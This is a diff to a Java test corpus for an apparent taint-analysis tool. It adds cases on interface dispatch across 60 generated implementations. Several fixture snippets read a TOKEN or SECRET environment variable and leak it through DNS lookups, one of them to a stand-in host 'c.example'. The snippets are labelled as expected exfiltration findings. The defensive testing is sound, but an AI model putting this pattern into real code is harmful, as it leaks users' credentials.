@@ -62,6 +62,26 @@ final class FlowCorpus {
         add(name, construct, all);
     }
 
+    /**
+     * {@code count} classes {@code prefix1..prefixN} implementing {@code iface}, each with {@code body} as its
+     * members, except those {@code special} names (by number) which get their own.
+     */
+    private static List<String> implementations(String prefix, int count, String iface, String body,
+                                                Map<Integer, String> special) {
+        List<String> out = new ArrayList<>();
+        for (int i = 1; i <= count; i++) {
+            out.add("package PKG;\nclass " + prefix + i + " implements " + iface + " {\n"
+                    + special.getOrDefault(i, body) + "}\n");
+        }
+        return out;
+    }
+
+    private static String[] files(List<String> generated, String... written) {
+        List<String> all = new ArrayList<>(List.of(written));
+        all.addAll(generated);
+        return all.toArray(String[]::new);
+    }
+
     private void positives() {
         viaSend("constant-true condition and a reassigned local boolean", "dead code: only constant branches skipped", true, """
                 package PKG;
@@ -556,6 +576,83 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        // more implementations than a call once followed (48): every one is, through nodes its target set shares
+        add("dispatch to 60 implementations: the 60th sends its argument", "interface dispatch: many implementations",
+                files(implementations("Ch", 60, "Channel", """
+                            public void send(String data) {
+                                System.out.println(data.length());
+                            }
+                        """, Map.of(60, """
+                            public void send(String data) throws Exception {
+                                java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:4
+                            }
+                        """)), """
+                        package PKG;
+                        interface Channel {
+                            void send(String data) throws Exception;
+                        }
+                        """, """
+                        package PKG;
+                        class A {
+                            void f(Channel c) throws Exception {
+                                c.send(System.getenv("TOKEN"));
+                            }
+                            void g(Channel c) throws Exception {
+                                c.send("clean");
+                            }
+                        }
+                        """));
+        add("dispatch to 60 implementations: the 60th returns its argument (joined summaries)",
+                "interface dispatch: many implementations",
+                files(implementations("Co", 60, "Codec", """
+                            public String code(String s) {
+                                return "x";
+                            }
+                        """, Map.of(60, """
+                            public String code(String s) {
+                                return s + "!";
+                            }
+                        """)), """
+                        package PKG;
+                        interface Codec {
+                            String code(String s);
+                        }
+                        """, """
+                        package PKG;
+                        class A {
+                            void f(Codec c) throws Exception {
+                                java.net.InetAddress.getByName(c.code(System.getenv("TOKEN"))); // expect: EXFIL, from=A.java:4
+                            }
+                            void g(Codec c) throws Exception {
+                                java.net.InetAddress.getByName(c.code("clean"));
+                            }
+                        }
+                        """));
+        add("dispatch to 60 implementations: the 60th returns a secret", "interface dispatch: many implementations",
+                files(implementations("St", 60, "Store", """
+                            public String get() {
+                                return "fixed";
+                            }
+                        """, Map.of(60, """
+                            public String get() {
+                                return System.getenv("TOKEN");
+                            }
+                        """)), """
+                        package PKG;
+                        interface Store {
+                            String get();
+                        }
+                        """, """
+                        package PKG;
+                        class A {
+                            void f(Store s) throws Exception {
+                                java.net.InetAddress.getByName(s.get()); // expect: EXFIL, from=St60.java:4
+                            }
+                            void g(Store s) throws Exception {
+                                java.net.InetAddress.getByName(s.get() + "x"); // expect: EXFIL, from=St60.java:4
+                            }
+                        }
+                        """));
         add("dispatch to several implementations: result", "interface dispatch", """
                 package PKG;
                 interface Store {
@@ -1098,6 +1195,58 @@ final class FlowCorpus {
     }
 
     private void negatives() {
+        // Op1..Op60 implement Op; Op11..Op60 also Narrow. Op5 sends what it gets and returns a secret. The secret
+        // passed to a Narrow (50 targets, Op5 not among them) or to an allocated Op20 must not reach Op5's sink, and
+        // the result of a Narrow call must not carry Op5's secret, although every set has more than 48 targets and
+        // shares its dispatch nodes with the calls of the same set
+        Map<Integer, String> narrow = new java.util.HashMap<>();
+        for (int i = 11; i <= 60; i++) {
+            narrow.put(i, """
+                        public String run(String s) {
+                            return "n";
+                        }
+                    """);
+        }
+        narrow.put(5, """
+                    public String run(String s) throws Exception {
+                        java.net.InetAddress.getByName(s);
+                        return System.getenv("TOKEN");
+                    }
+                """);
+        List<String> ops = new ArrayList<>(implementations("Op", 60, "Op", """
+                    public String run(String s) {
+                        return "o";
+                    }
+                """, narrow));
+        for (int i = 10; i < 60; i++) {
+            ops.set(i, ops.get(i).replace("implements Op {", "implements Narrow {"));
+        }
+        add("dispatch: target sets of more than 48 narrowed differently share no path", "negative: shared dispatch nodes",
+                files(ops, """
+                        package PKG;
+                        interface Op {
+                            String run(String s) throws Exception;
+                        }
+                        """, """
+                        package PKG;
+                        interface Narrow extends Op {
+                        }
+                        """, """
+                        package PKG;
+                        class A {
+                            void narrowed(Narrow n) throws Exception {
+                                String back = n.run(System.getenv("SECRET"));
+                                java.net.InetAddress.getByName(back);
+                            }
+                            void allocated() throws Exception {
+                                Op o = new Op20();
+                                o.run(System.getenv("SECRET"));
+                            }
+                            void all(Op o) throws Exception {
+                                o.run("clean");
+                            }
+                        }
+                        """));
         inline("reflection: a model sink called by reflection with clean data, the secret to another library method",
                 "negative: reflection (library sink, clean argument)", """
                 package PKG;
